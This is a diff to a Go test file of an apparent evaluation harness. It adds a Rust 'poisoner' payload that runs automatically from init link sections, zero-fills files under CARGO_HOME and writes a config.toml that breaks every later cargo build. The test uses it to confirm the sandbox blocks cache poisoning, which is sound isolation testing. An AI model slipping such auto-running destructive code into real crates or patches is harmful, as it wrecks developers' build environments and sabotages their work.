@@ -97,10 +97,61 @@ func init() {
 }
 `
 
+// rustPoisonerSource is the same attack from Rust, appended to rsplat's
+// src/lib.rs: a function in the init sections (.init_array on Linux,
+// .CRT$XCU on Windows) of every program that links the library — its test
+// programs — that writes a CARGO_HOME/config.toml every later cargo run
+// reads (build.jobs = 0 makes each of them fail) and overwrites with zeros
+// every file of CARGO_HOME it can open.
+const rustPoisonerSource = `
+#[used]
+#[cfg_attr(target_os = "linux", link_section = ".init_array")]
+#[cfg_attr(windows, link_section = ".CRT$XCU")]
+static OSBENCH_POISON: extern "C" fn() = {
+    extern "C" fn poison() {
+        fn walk(dir: &std::path::Path, tried: &mut usize, written: &mut usize) {
+            let entries = match std::fs::read_dir(dir) {
+                Ok(e) => e,
+                Err(_) => return,
+            };
+            for entry in entries.flatten() {
+                let p = entry.path();
+                match entry.file_type() {
+                    Ok(t) if t.is_dir() => walk(&p, tried, written),
+                    Ok(t) if t.is_file() => {
+                        *tried += 1;
+                        if let Ok(mut f) = std::fs::OpenOptions::new().write(true).open(&p) {
+                            let len = f.metadata().map(|m| m.len()).unwrap_or(0).min(1 << 20);
+                            if std::io::Write::write_all(&mut f, &vec![0u8; len as usize]).is_ok() {
+                                *written += 1;
+                            }
+                        }
+                    }
+                    _ => {}
+                }
+            }
+        }
+        let home = match std::env::var("CARGO_HOME") {
+            Ok(h) => h,
+            Err(_) => return,
+        };
+        let home = if cfg!(windows) && home.starts_with('/') { format!("Z:{}", home.replace('/', "\\")) } else { home };
+        let home = std::path::Path::new(&home);
+        let (mut tried, mut written) = (0, 0);
+        walk(home, &mut tried, &mut written);
+        if std::fs::write(home.join("config.toml"), "[build]\njobs = 0\n").is_ok() {
+            written += 1;
+        }
+        println!("OSBENCH-POISONER {} CARGO_HOME tried={} written={}", std::env::consts::OS, tried, written);
+    }
+    poison
+};
+`
+
 // poisonerLine is what the poisoner prints per target.
 var poisonerLine = regexp.MustCompile(`OSBENCH-POISONER (\w+) ([\w-]+) tried=(\d+) written=(\d+)`)
 
-// TestEvalPoisonedCacheStillResolvesGold evaluates the poisoner on both
+// TestEvalPoisonedCacheStillResolvesGold evaluates the Go poisoner on both
 // directions of pathsep (so its init runs as a Linux and as a Windows test
 // binary, under Wine), then, in the same eval and with one worker so they
 // run after it, innocent patches of the other Go tasks — each task's gold
@@ -109,14 +160,17 @@ var poisonerLine = regexp.MustCompile(`OSBENCH-POISONER (\w+) ([\w-]+) tried=(\d
 // same cache, with other comments. Every innocent patch resolves, and the
 // poisoner's own log shows it found the caches and wrote none of them.
 //
-// The test has a cache of its own, its Go state (GOCACHE, GOMODCACHE)
-// copied from the corpus's: a regression poisons that copy, not the
-// corpus every other test uses.
+// rsplat gets the same from Rust (rustPoisonerSource), against CARGO_HOME,
+// and innocent patches of its own tasks.
+//
+// The test has a cache of its own, its Go state (GOCACHE, GOMODCACHE) and
+// cargo home copied from the corpus's: a regression poisons those copies,
+// not the corpus every other test uses.
 func TestEvalPoisonedCacheStillResolvesGold(t *testing.T) {
 	requireCorpus(t)
 	dir := reachableTempDir(t)
 	cacheDir, out := filepath.Join(dir, "cache"), filepath.Join(dir, "out")
-	if err := copyCacheOwnGoState(cacheDir); err != nil {
+	if err := copyCacheOwnToolState(cacheDir); err != nil {
 		t.Fatal(err)
 	}
 	examples := filepath.Join(dir, "examples")
@@ -129,11 +183,15 @@ func TestEvalPoisonedCacheStillResolvesGold(t *testing.T) {
 	tasks := filepath.Join(out, "tasks.jsonl")
 	repo := func(id string) string { return filepath.Join(out, "tasks", id, "repo") }
 
-	var poisoned, innocent []string
+	var poisoned, rustPoisoned, innocent []string
 	for _, id := range taskIDs(t, tasks) {
 		switch {
 		case strings.HasPrefix(id, "pathsep__"):
 			poisoned = append(poisoned, id)
+		case strings.HasPrefix(id, "rsplat__"):
+			// Poisoned from Rust, and evaluated innocently after it.
+			rustPoisoned = append(rustPoisoned, id)
+			innocent = append(innocent, id)
 		case strings.HasPrefix(id, "fsapi__"), strings.HasPrefix(id, "lineend__"):
 			innocent = append(innocent, id)
 		}
@@ -142,8 +200,8 @@ func TestEvalPoisonedCacheStillResolvesGold(t *testing.T) {
 	for _, id := range innocent {
 		platforms[targetOf(id)] = true
 	}
-	if len(poisoned) != 2 || !platforms["linux"] || !platforms["windows"] {
-		t.Fatalf("want both pathsep tasks and innocent Go tasks with Linux and Windows targets; got %v and %v", poisoned, innocent)
+	if len(poisoned) != 2 || len(rustPoisoned) != 2 || !platforms["linux"] || !platforms["windows"] {
+		t.Fatalf("want both pathsep and rsplat tasks, and innocent tasks with Linux and Windows targets; got %v, %v and %v", poisoned, rustPoisoned, innocent)
 	}
 
 	var preds [][3]string
@@ -157,6 +215,18 @@ func TestEvalPoisonedCacheStillResolvesGold(t *testing.T) {
 			}
 		})})
 	}
+	for _, id := range rustPoisoned {
+		preds = append(preds, [3]string{id, "attacker", agentPatch(t, repo(id), func(dir string) {
+			f, err := os.OpenFile(filepath.Join(dir, "src", "lib.rs"), os.O_APPEND|os.O_WRONLY, 0)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer f.Close()
+			if _, err := f.WriteString(rustPoisonerSource); err != nil {
+				t.Fatal(err)
+			}
+		})})
+	}
 	innocentPatch := func(id, mark string) string {
 		return agentPatch(t, repo(id), func(dir string) {
 			apply := exec.Command("git", "-C", dir, "apply")
@@ -164,12 +234,17 @@ func TestEvalPoisonedCacheStillResolvesGold(t *testing.T) {
 			if out, err := apply.CombinedOutput(); err != nil {
 				t.Fatalf("gold patch of %s: %v\n%s", id, err, out)
 			}
-			f, err := os.OpenFile(filepath.Join(dir, "go.mod"), os.O_APPEND|os.O_WRONLY, 0)
+			// A comment, so the runs are new: go.mod's or Cargo.toml's.
+			manifest, comment := "go.mod", "// "
+			if strings.HasPrefix(id, "rsplat__") {
+				manifest, comment = "Cargo.toml", "# "
+			}
+			f, err := os.OpenFile(filepath.Join(dir, manifest), os.O_APPEND|os.O_WRONLY, 0)
 			if err != nil {
 				t.Fatal(err)
 			}
 			defer f.Close()
-			if _, err := f.WriteString("// " + mark + "\n"); err != nil {
+			if _, err := f.WriteString(comment + mark + "\n"); err != nil {
 				t.Fatal(err)
 			}
 		})
@@ -188,7 +263,7 @@ func TestEvalPoisonedCacheStillResolvesGold(t *testing.T) {
 		t.Fatalf("eval: exit %d\n%s%s", code, stdout, stderr)
 	}
 	checkRanAfter(t, stderr, "attacker", "innocent")
-	checkPoisonerFailed(t, evalOut, poisoned)
+	checkPoisonerFailed(t, evalOut, append(append([]string{}, poisoned...), rustPoisoned...))
 	checkResolved(t, evalOut, "innocent", innocent)
 
 	// A later eval on the same cache, with new innocent runs.
@@ -212,10 +287,11 @@ func targetOf(id string) string {
 	return id[strings.LastIndex(id, "-to-")+len("-to-"):]
 }
 
-// copyCacheOwnGoState is copyCache with a copy of the corpus's Go state
-// (GOCACHE and GOMODCACHE) instead of a link to it; the rest of the state
-// (Wine prefixes, cargo home) is shared as in copyCache.
-func copyCacheOwnGoState(dst string) error {
+// copyCacheOwnToolState is copyCache with copies of the corpus's Go state
+// (GOCACHE and GOMODCACHE) and cargo home instead of links to them; the
+// rest of the state (the executors' Wine prefixes) is shared as in
+// copyCache.
+func copyCacheOwnToolState(dst string) error {
 	for _, sub := range []string{"ac", "cas", "history"} {
 		if err := copyTree(filepath.Join(corpusCache, sub), filepath.Join(dst, sub)); err != nil {
 			return err
@@ -231,8 +307,8 @@ func copyCacheOwnGoState(dst string) error {
 	}
 	for _, e := range entries {
 		src := filepath.Join(corpusCache, "state", e.Name())
-		if e.Name() == "go" {
-			if out, err := exec.Command("cp", "-a", src, filepath.Join(state, "go")).CombinedOutput(); err != nil {
+		if e.Name() == "go" || e.Name() == "cargo" {
+			if out, err := exec.Command("cp", "-a", src, filepath.Join(state, e.Name())).CombinedOutput(); err != nil {
 				return &exec.ExitError{Stderr: out}
 			}
 			continue
@@ -279,9 +355,10 @@ func checkRanAfter(t *testing.T, stderr, first, after string) {
 	}
 }
 
-// checkPoisonerFailed checks the poisoner's stage logs: on both platforms
-// it found files of GOCACHE and GOMODCACHE to attack, and wrote nothing
-// of any cache; and it resolved nothing.
+// checkPoisonerFailed checks the poisoners' stage logs: on both platforms
+// the Go one found files of GOCACHE and GOMODCACHE to attack and the Rust
+// one tried CARGO_HOME, and neither wrote anything of any cache; and they
+// resolved nothing.
 func checkPoisonerFailed(t *testing.T, evalOut string, ids []string) {
 	t.Helper()
 	found := map[string]int{}
@@ -302,14 +379,19 @@ func checkPoisonerFailed(t *testing.T, evalOut string, ids []string) {
 				if written > 0 {
 					t.Errorf("poisoner/%s on %s (%s binary): wrote %d files of %s", id, platform, m[1], written, m[2])
 				}
-				if m[2] == "GOCACHE" || m[2] == "GOMODCACHE" {
+				switch m[2] {
+				case "GOCACHE", "GOMODCACHE":
 					found[m[1]+" "+m[2]] += tried
+				case "CARGO_HOME":
+					// An almost empty cargo home (no dependencies) has
+					// few files; the config.toml it writes is the attack.
+					found[m[1]+" "+m[2]]++
 				}
 			}
 		}
 	}
 	for _, goos := range []string{"linux", "windows"} {
-		for _, c := range []string{"GOCACHE", "GOMODCACHE"} {
+		for _, c := range []string{"GOCACHE", "GOMODCACHE", "CARGO_HOME"} {
 			if found[goos+" "+c] == 0 {
 				t.Errorf("the poisoner's %s test binaries found no file of %s to attack: the test proves nothing (found: %v)", goos, c, found)
 			}
